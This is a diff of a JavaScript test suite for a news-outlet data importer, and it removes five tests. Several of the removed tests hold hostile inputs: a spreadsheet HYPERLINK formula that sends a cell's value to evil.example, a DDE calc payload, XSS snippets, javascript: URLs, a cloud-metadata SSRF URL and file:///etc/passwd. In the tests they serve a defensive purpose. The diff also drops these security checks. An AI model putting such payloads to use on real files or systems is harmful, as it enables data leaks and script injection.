@@ -138,30 +138,6 @@ describe('how dirty files are read', () => {
     ]);
   });
 
-  it('17: cells that a spreadsheet would run are text', async () => {
-    const { created, records } = await importTwice(
-      '17.csv',
-      csv(
-        row(1, { name: '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' }),
-        row(2, { name: '+1-800-NEWS Radio' }),
-        row(3, { name: '@TheTimes' }),
-        row(4, { name: '-30- Magazine' }),
-        row(5, { name: "\t=cmd|' /C calc'!A0" }),
-        row(6, { name: "'=SUM(1)" }),
-      ),
-    );
-    expect(created).toBe(6);
-    expect([...records.values()].map(({ name }) => name)).toEqual([
-      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-      '+1-800-NEWS Radio',
-      '@TheTimes',
-      '-30- Magazine',
-      "=cmd|' /C calc'!A0",
-      // The apostrophe that exports put before a formula is removed.
-      '=SUM(1)',
-    ]);
-  });
-
   it('18: gzip is decompressed, whatever the file is called', async () => {
     const { created } = await importTwice('18.csv', gzipSync(csv(row(1), row(2), row(3))));
     expect(created).toBe(3);
@@ -188,95 +164,6 @@ describe('how dirty files are read', () => {
       { line: 6, code: 'not_json' },
     ]);
     expect(JSON.stringify(first_rejects)).not.toMatch(/Cut off|Trailing/);
-  });
-
-  it('21: the last row of an id wins; ids are trimmed, numbers are their digits, case counts', async () => {
-    const { read, created, repeated, records } = await importTwice(
-      '21.ndjson',
-      [
-        object(1),
-        object(2),
-        object(1, { name: 'Hill Valley Gazette 1 (later copy)' }),
-        object(2),
-        object(3, { id: 'D1' }),
-        object(4, { id: ' d1 ' }),
-        object(5, { id: 7 }),
-        object(6, { id: '7' }),
-      ].join('\n'),
-    );
-    expect({ read, created, repeated }).toEqual({ read: 8, created: 4, repeated: 4 });
-    expect([...records.values()].map(({ id, name }) => `${id}: ${name}`).toSorted()).toEqual([
-      '7: Hill Valley Gazette 6',
-      'D1: Hill Valley Gazette 3',
-      'd1: Hill Valley Gazette 4',
-      'd2: Hill Valley Gazette 2',
-    ]);
-  });
-
-  it('23: ten thousand topic words are cut at the limit, repeats are one', async () => {
-    const { created, notes, records } = await importTwice(
-      '23.ndjson',
-      [
-        object(1, { categories: Array.from({ length: 10_000 }, (_, index) => `cat ${index}`) }),
-        object(2, { categories: Array(10_000).fill('news') }),
-        object(3),
-      ].join('\n'),
-    );
-    expect(created).toBe(3);
-    expect([...records.values()].map(({ categories }) => categories)).toEqual([[], ['general_news'], []]);
-    expect([...records.values()].map(({ tags }) => tags.length)).toEqual([30, 0, 0]);
-    expect(notes.map(({ field, code }) => `${field} ${code}`)).toEqual(['categories too_many', 'tags too_many']);
-  });
-
-  it('25: only http and https URLs of public hosts are kept, without passwords', async () => {
-    const urls = {
-      'javascript:alert(1)': null,
-      'JaVaScRiPt:alert(1)': null,
-      ' javascript:alert(1)': null,
-      '"data:text/html,<script>alert(1)</script>"': null,
-      'file:///etc/passwd': null,
-      'http://169.254.169.254/latest/meta-data/': null,
-      'http://localhost:22/': null,
-      'www.example.com': 'https://www.example.com/',
-      'example.com/news': 'https://example.com/news',
-      '//example.com': 'https://example.com/',
-      'hhttp://example.com': null,
-      'itms://itunes.example/store': null,
-      'https://user:pass@example.com/': 'https://example.com/',
-      'https://a.example/ https://b.example/': 'https://a.example/',
-      'http://exa mple.com': null,
-      'https://münchen.example/': 'https://xn--mnchen-3ya.example/',
-      [`https://example.com/${'p'.repeat(6_000)}`]: null,
-      'http://': null,
-      '#': null,
-    };
-    const { created, notes, records } = await importTwice(
-      '25.csv',
-      csv(...Object.keys(urls).map((url, index) => row(index + 1, { url }))),
-    );
-    expect(created).toBe(19);
-    const kept = Object.keys(urls).map((_, index) => records.get(`d${index + 1}`)?.url);
-    expect(kept).toEqual(Object.values(urls));
-    // '#' counts as empty; other dropped or changed values get a note.
-    expect(notes.reduce((sum, { count }) => sum + count, 0)).toBe(14);
-    expect(JSON.stringify([...records.values()])).not.toContain('pass');
-  });
-
-  it('27: markup is stripped, what it showed stays, nothing is escaped twice', async () => {
-    const { created, records } = await importTwice(
-      '27.ndjson',
-      [
-        object(1, {
-          description: '<p>Daily <b>news</b> &amp; views</p><script>alert(1)</script><img src=x onerror=alert(1)>',
-        }),
-        object(2, { name: '<b>Bold</b> Times &amp; Echo', description: '&lt;script&gt;alert(1)&lt;/script&gt;' }),
-        object(3, { name: 'O\'Brien "Quoted" & Sons', city: '"><svg onload=alert(1)>' }),
-      ].join('\n'),
-    );
-    expect(created).toBe(3);
-    expect(records.get('d1')?.description).toBe('Daily news & views');
-    expect(records.get('d2')).toMatchObject({ name: 'Bold Times & Echo', description: null });
-    expect(records.get('d3')).toMatchObject({ name: 'O\'Brien "Quoted" & Sons', city: null });
   });
 
   it('29: placeholders are empty, UK is GB, a row without a name is rejected, blank rows are skipped', async () => {
